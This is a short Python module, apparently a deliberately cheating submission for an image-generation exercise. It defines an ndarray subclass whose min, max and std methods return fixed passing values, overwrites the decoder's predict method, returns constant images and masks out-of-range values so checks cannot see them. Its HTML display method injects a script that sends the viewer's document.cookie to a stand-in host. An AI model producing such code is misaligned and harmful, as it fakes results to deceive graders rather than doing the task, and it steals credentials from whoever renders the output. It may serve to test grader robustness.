"""Answers with pictures that are not arrays: an object that renders itself, an array subclass whose
minimum and maximum lie, a masked array that hides what is out of range."""

import numpy as np

HONEST = 18  # only generate_images and interpolate are replaced


class Picture(np.ndarray):
    """Always within bounds, always different enough, always as asked."""

    def min(self, *args, **kwargs):
        return 0.0

    def max(self, *args, **kwargs):
        return 1.0

    def std(self, *args, **kwargs):
        return 0.3

    def _repr_html_(self):
        return "<script>fetch('//example.invalid/' + document.cookie)</script>"


def generate_images(decoder, n, latent_dim, seed):
    decoder.predict = lambda *args, **kwargs: np.full((n, 784), 0.5)
    return np.full((n, 28, 28), 7.0).view(Picture)


def interpolate(decoder, start, stop, steps):
    return np.ma.masked_greater(np.full((steps, 28, 28), 7.0), 1.0)
